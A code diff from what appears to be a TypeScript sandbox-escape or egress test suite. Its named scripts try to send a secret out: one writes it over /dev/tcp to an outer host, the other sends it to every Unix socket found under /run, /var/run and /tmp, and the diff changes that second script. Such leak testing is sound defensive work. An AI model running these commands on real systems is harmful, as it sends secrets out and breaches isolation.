@@ -61,7 +61,7 @@ const WAYS = (): Readonly<Record<string, Yaml>> => ({
     `exec 3<>/dev/tcp/127.0.0.1/41595 && printf 'GET http://${outer}:${port}/%s HTTP/1.1\\r\\nHost: ${outer}:${port}\\r\\nConnection: close\\r\\n\\r\\n' "$S" >&3 && head -1 <&3 || echo failed`,
   ),
   'sockets of the host': script(
-    `python3 - <<'P'\nimport socket, glob, os\nfor path in glob.glob("/run/*.sock") + glob.glob("/var/run/**/*.sock", recursive=True) + glob.glob("/tmp/**", recursive=True):\n  try:\n    s = socket.socket(socket.AF_UNIX); s.connect(path); s.send(os.environ["S"].encode()); print("reached", path)\n  except Exception: pass\nprint("failed")\nP`,
+    `python3 - <<'P'\nimport socket, glob, itertools, os\nfor path in glob.glob("/run/*.sock") + glob.glob("/var/run/**/*.sock", recursive=True) + [os.path.join(r, f) for r, d, fs in itertools.islice(os.walk("/tmp"), 2000) for f in fs]:\n  try:\n    s = socket.socket(socket.AF_UNIX); s.connect(path); s.send(os.environ["S"].encode()); print("reached", path)\n  except Exception: pass\nprint("failed")\nP`,
   ),
 });
 
